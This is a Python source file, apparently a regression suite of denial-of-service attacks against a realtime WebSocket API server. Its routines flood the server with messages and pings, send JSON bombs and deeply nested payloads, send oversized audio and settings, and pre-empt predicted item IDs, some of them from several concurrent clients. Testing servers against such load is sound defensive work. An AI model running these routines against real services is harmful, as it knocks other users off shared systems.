"""What one WebSocket client can send to keep a server from serving the others. Each was once enough to do so."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
from collections.abc import Awaitable, Callable
from typing import Any

import aiohttp

SOUND_S = 119
_PATIENCE_S = 6.0
_TEXT = {"type": "message", "role": "user", "content": [{"type": "input_text", "text": "x"}]}

Attack = Callable[[aiohttp.ClientWebSocketResponse], Awaitable[None]]


def _item(**fields: Any) -> str:
    return json.dumps({"type": "conversation.item.create", "item": _TEXT | fields})


def _sound(seconds: float) -> str:
    return base64.b64encode(bytes(int(seconds * 24_000) * 2)).decode()


async def _in_one_write(socket: aiohttp.ClientWebSocketResponse, messages: list[str]) -> None:
    """All at once: the server finds them in its buffer and need not wait for any."""
    for message in messages:
        await socket.send_str(message)


async def _read_for(socket: aiohttp.ClientWebSocketResponse, seconds: float, until: str = "") -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            async for message in socket:
                if until and message.type is aiohttp.WSMsgType.TEXT and until in message.data[:200]:
                    return


async def retrieve(socket: aiohttp.ClientWebSocketResponse) -> None:
    """Two minutes of sound, asked for 400 times."""
    content = [{"type": "input_audio", "audio": _sound(SOUND_S)}]
    await socket.send_str(_item(id="long", content=content))
    await _read_for(socket, _PATIENCE_S, "item.done")
    await _in_one_write(socket, ['{"type":"conversation.item.retrieve","item_id":"long"}'] * 400)
    await _read_for(socket, 1.0)


async def retrieve_unread(socket: aiohttp.ClientWebSocketResponse) -> None:
    """The same, and nothing of it is read."""
    content = [{"type": "input_audio", "audio": _sound(SOUND_S)}]
    await socket.send_str(_item(id="long", content=content))
    await _in_one_write(socket, ['{"type":"conversation.item.retrieve","item_id":"long"}'] * 400)
    await asyncio.sleep(1.0)


async def items(socket: aiohttp.ClientWebSocketResponse) -> None:
    await _in_one_write(socket, [_item()] * 4000)
    await _read_for(socket, 1.0)


async def clear(socket: aiohttp.ClientWebSocketResponse) -> None:
    drop = json.dumps({"type": "input_audio_buffer.append", "audio": _sound(0.02)})
    await _in_one_write(socket, [drop, '{"type":"input_audio_buffer.clear"}'] * 3000)
    await _read_for(socket, 1.0)


async def references(socket: aiohttp.ClientWebSocketResponse) -> None:
    """As many items as there may be, referred to ten times each, and as often as is allowed."""
    await _in_one_write(socket, [_item(id=f"i{number}") for number in range(2000)])
    for count in (20_000, 2000, 2000, 2000):
        wanted = [{"type": "item_reference", "id": f"i{number % 2000}"} for number in range(count)]
        asked = {"conversation": "none", "input": wanted, "output_modalities": ["text"]}
        await socket.send_str(json.dumps({"type": "response.create", "response": asked}))
    await _read_for(socket, 1.0)


async def bombs(socket: aiohttp.ClientWebSocketResponse) -> None:
    """JSON that is short to send and long to keep, and such as is deep."""
    for inside in ("0," * 1_000_000, "{}," * 1_000_000, "[" * 1_000_000, '{"a":' * 900 + "1" + "}" * 900):
        await socket.send_str('{"type":"session.update","session":{"tracing":{"x":[' + inside + "0]}}}")
    for depth in (400, 970):
        nested: Any = "x"
        for _ in range(depth):
            nested = [nested]
        await socket.send_str('{"type":"conversation.item.create","item":{"type":' + "[" * depth + "]" * depth + "}}")
        with contextlib.suppress(RecursionError):
            await socket.send_str(json.dumps({"type": "session.update", "session": {"prompt": {"x": nested}}}))
    await _read_for(socket, 1.0)


async def long_appends(socket: aiohttp.ClientWebSocketResponse) -> None:
    """Five minutes of sound at once, three times."""
    long = json.dumps({"type": "input_audio_buffer.append", "audio": base64.b64encode(bytes(14 << 20)).decode()})
    for _ in range(3):
        await socket.send_str(long)
        await socket.send_str('{"type":"input_audio_buffer.clear"}')
    await _read_for(socket, 1.5)


async def pings(socket: aiohttp.ClientWebSocketResponse) -> None:
    for _ in range(10_000):
        await socket.ping(b"")
    for _ in range(3000):
        await socket.send_bytes(b"junk")
    await _read_for(socket, 1.0)


async def settings(socket: aiohttp.ClientWebSocketResponse) -> None:
    """Settings as large as they may be, again and again."""
    tool = {"type": "function", "name": "f", "description": "x" * 500, "parameters": {"type": "object"}}
    update = json.dumps({"type": "session.update", "session": {"type": "realtime", "tools": [tool] * 100}})
    await _in_one_write(socket, [update] * 100)
    await _read_for(socket, 1.0)


async def names(socket: aiohttp.ClientWebSocketResponse) -> None:
    """Items under the names that the server will give next."""
    await socket.send_str(_item())
    async for message in socket:
        event = json.loads(message.data)
        if event["type"] == "conversation.item.done":
            break
    stem, count = event["item"]["id"][:-6], int(event["item"]["id"][-6:], 16)
    for number in range(count, count + 40):
        await socket.send_str(_item(id=f"{stem}{number:06x}"))
    await socket.send_str('{"type":"input_audio_buffer.append","audio":"' + _sound(1.0) + '"}')
    await socket.send_str('{"type":"input_audio_buffer.commit"}')
    await socket.send_str('{"type":"response.create"}')
    await _read_for(socket, 1.0)


KINDS: dict[str, Attack] = {
    "retrieve": retrieve,
    "retrieve_unread": retrieve_unread,
    "items": items,
    "clear": clear,
    "references": references,
    "bombs": bombs,
    "long_appends": long_appends,
    "pings": pings,
    "settings": settings,
    "names": names,
}


async def attack(kind: str, url: str, key: str) -> None:
    """One attack against the server at `url` (http://…); whatever it answers, cutting off included, is its right."""
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    try:
        async with (
            aiohttp.ClientSession(headers=headers) as http,
            http.ws_connect(f"{url}/v1/realtime?model=m", max_msg_size=0) as socket,
        ):
            try:
                await KINDS[kind](socket)
            finally:
                # Without a word: a closing handshake would wait for what was not read.
                if socket._response.connection is not None and socket._response.connection.transport is not None:
                    socket._response.connection.transport.abort()
    except (aiohttp.ClientError, ConnectionError):
        return


async def run(url: str, key: str) -> None:
    """All of them, one after another, then some from several clients at once."""
    for kind in KINDS:
        await attack(kind, url, key)
    await asyncio.gather(*(attack(kind, url, key) for kind in ("items", "clear", "pings", "names")))
